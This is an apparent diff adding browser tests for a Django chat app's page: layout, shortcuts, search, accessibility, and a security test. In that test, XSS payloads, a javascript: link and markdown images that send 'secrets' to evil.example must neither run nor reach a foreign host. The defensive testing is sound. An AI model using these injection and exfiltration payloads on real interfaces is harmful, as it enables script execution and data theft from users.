@@ -1,0 +1,180 @@
+"""The page itself: what it looks like to a keyboard, a phone and an attacker."""
+
+from typing import Any
+
+import pytest
+from django.contrib.auth.models import User
+from playwright.sync_api import Page, expect
+
+from chat.tests.builders import AConversation, a_model
+from chat.tests.page.conftest import Wire
+
+pytestmark = pytest.mark.browser
+
+EVIL = "<img src=x onerror=alert(1)><script>alert(1)</script>"
+EXFILTRATION = "![x](https://evil.example/?secret=1) ![y][r]\n\n[r]: https://evil.example/?secret=2"
+
+
+def test_nothing_that_people_models_or_tools_wrote_runs_or_asks_a_foreign_host(
+    page: Page, wire: Wire, owner: User, live_server: Any
+) -> None:
+    conversation = AConversation(owner, EVIL)
+    turn = conversation.turn(EVIL, f"{EVIL}\n\n{EXFILTRATION}\n\n[x](javascript:alert(1))")
+    (call,) = turn.round(calls=((EVIL, {EVIL: EVIL}),), reasoning_content=EVIL)
+    turn.end_call(call, f'[{{"{EVIL}": "{EXFILTRATION}"}}]'.replace("\n", " "))
+    asked: list[str] = []
+    dialogs: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
+    page.goto(conversation.url)
+    page.evaluate("for (const d of document.querySelectorAll('details')) d.open = true")
+    expect(page.locator(".prose").first).to_contain_text("onerror=alert(1)")
+    page.wait_for_load_state("networkidle")
+    assert dialogs == []
+    assert [url for url in asked if not url.startswith(live_server.url)] == []
+
+
+@pytest.mark.parametrize("width", [320, 390, 1440])
+def test_nothing_widens_the_page(page: Page, wire: Wire, owner: User, width: int) -> None:
+    conversation = AConversation(owner, "W" * 200)
+    long = "W" * 3000
+    turn = conversation.turn(long, f"{long}\n\n```\n{long}\n```\n\n|{long}|b|\n|-|-|\n|{long}|c|")
+    (call,) = turn.round(calls=((long[:200], {long: long}),))
+    turn.end_call(call, f'{{"{long}": "{long}"}}')
+    conversation.turn("سلام", "- قائمة\n- ثانية\n\n| ا | ب |\n|---|---|\n| ج | د |")
+    page.set_viewport_size({"width": width, "height": 700})
+    page.goto(conversation.url)
+    page.evaluate("for (const d of document.querySelectorAll('.thread details')) d.open = true")
+    for selector in ("html", "#scroll"):
+        widths = "element => [element.scrollWidth, element.clientWidth]"
+        inner, outer = page.locator(selector).evaluate(widths)
+        assert inner <= outer, selector
+
+
+def test_the_sidebar_is_a_drawer_on_a_phone(page: Page, wire: Wire, owner: User) -> None:
+    conversation = AConversation(owner, "A title")
+    page.set_viewport_size({"width": 390, "height": 800})
+    page.goto(conversation.url)
+    new = page.get_by_role("button", name="New conversation")
+    expect(new).to_be_hidden()
+    page.get_by_role("button", name="Conversations").click()
+    expect(new).to_be_focused()
+    page.keyboard.press("Escape")
+    expect(new).to_be_hidden()
+    expect(page.get_by_role("button", name="Conversations")).to_be_focused()
+
+
+def test_conversations_are_searched_as_one_types(page: Page, wire: Wire, owner: User) -> None:
+    AConversation(owner, "数据库有几张表")
+    AConversation(owner, "Something else")
+    page.goto("/")
+    page.keyboard.press("Control+k")
+    page.keyboard.type("数据库")
+    links = page.locator("#conversations a")
+    expect(links).to_have_text(["数据库有几张表"])
+    page.keyboard.press("Enter")
+    expect(links.first).to_be_focused()
+
+
+def test_a_new_conversation_is_a_shortcut_away(page: Page, wire: Wire, owner: User) -> None:
+    page.goto(AConversation(owner).url)
+    page.keyboard.press("Control+Shift+O")
+    expect(page.get_by_role("heading", level=1)).to_have_text("New conversation")
+
+
+def test_shortcuts_are_listed(page: Page, wire: Wire, owner: User) -> None:
+    page.goto("/")
+    page.locator("#scroll").focus()
+    page.keyboard.press("?")
+    expect(page.get_by_role("heading", name="Keyboard shortcuts")).to_be_visible()
+    page.keyboard.press("Escape")
+    expect(page.get_by_role("heading", name="Keyboard shortcuts")).to_be_hidden()
+
+
+def test_a_conversation_is_renamed_in_the_page(page: Page, wire: Wire, owner: User) -> None:
+    conversation = AConversation(owner, "Old")
+    page.goto(conversation.url)
+    page.get_by_label("This conversation", exact=True).click()
+    page.get_by_role("button", name="Rename").click()
+    page.get_by_role("textbox", name="Title").fill("New")
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("heading", level=1)).to_have_text("New")
+    expect(page.locator("#conversations a")).to_have_text(["New"])
+    conversation.row.refresh_from_db()
+    assert conversation.row.title == "New"
+
+
+def test_a_conversation_is_deleted_after_a_question(page: Page, wire: Wire, owner: User) -> None:
+    conversation = AConversation(owner, "Old")
+    page.goto(conversation.url)
+    page.get_by_label("This conversation", exact=True).click()
+    page.get_by_role("button", name="Delete").click()
+    expect(page.get_by_role("button", name="Keep")).to_be_focused()
+    page.get_by_role("form", name="Delete").get_by_role("button", name="Delete").click()
+    expect(page.get_by_text("“Old” and its traces are deleted.")).to_be_visible()
+    expect(page.locator("#conversations a")).to_have_count(0)
+
+
+def test_an_answer_is_copied_as_it_was_written(page: Page, wire: Wire, owner: User) -> None:
+    conversation = AConversation(owner)
+    conversation.turn(answer="**Three** tables:\n\n- `a`")
+    page.goto(conversation.url)
+    page.get_by_role("button", name="Copy the answer").click()
+    expect(page.locator(".toast")).to_have_text("Copied")
+    copied = page.evaluate("navigator.clipboard.readText()")
+    assert copied == "**Three** tables:\n\n- `a`"
+
+
+def test_code_is_copied_without_its_colours(page: Page, wire: Wire, owner: User) -> None:
+    conversation = AConversation(owner)
+    conversation.turn(answer="```python\nx = 1\n```")
+    page.goto(conversation.url)
+    page.get_by_role("button", name="Copy", exact=True).click()
+    expect(page.locator(".toast")).to_have_text("Copied")
+    assert page.evaluate("navigator.clipboard.readText()") == "x = 1\n"
+
+
+def test_earlier_turns_come_on_demand_without_moving_what_is_read(
+    page: Page, wire: Wire, owner: User
+) -> None:
+    conversation = AConversation(owner)
+    for number in range(35):
+        conversation.turn(f"question {number}.", "Text.\n\n" * 3)
+    page.goto(conversation.url)
+    page.locator("#scroll").evaluate("element => element.scrollTo(0, 0)")
+    first = page.get_by_text("question 5.", exact=True)
+    before = first.bounding_box()
+    page.get_by_role("button", name="Show earlier").click()
+    expect(page.get_by_text("question 0.", exact=True)).to_be_attached()
+    after = first.bounding_box()
+    assert before is not None
+    assert after is not None
+    assert abs(before["y"] - after["y"]) < 60
+
+
+def test_a_chosen_theme_is_kept(page: Page, wire: Wire, owner: User) -> None:
+    page.goto("/")
+    page.locator(".account-menu > summary").click()
+    page.get_by_role("radio", name="Dark").check()
+    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
+    page.reload()
+    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
+
+
+def test_starters_are_those_of_the_chosen_model(page: Page, wire: Wire, owner: User) -> None:
+    a_model("other", ("Another question",), label="Other")
+    page.goto("/")
+    page.get_by_role("combobox", name="Model").select_option(label="Other")
+    expect(page.get_by_role("button", name="Another question")).to_be_visible()
+    expect(page.get_by_role("button", name="数据库有几张表")).to_be_hidden()
+
+
+def test_headings_and_landmarks_are_in_order(page: Page, wire: Wire, owner: User) -> None:
+    conversation = AConversation(owner)
+    conversation.turn(answer="# Title\n\n## Part")
+    page.goto(conversation.url)
+    for role, name in (("main", ""), ("navigation", "Conversations"), ("region", "Messages")):
+        found = page.get_by_role(role, name=name) if name else page.get_by_role(role)
+        expect(found).to_have_count(1)
+    expect(page.get_by_role("heading", level=1)).to_have_count(1)
+    expect(page.get_by_role("heading", level=3)).to_have_text("Title")
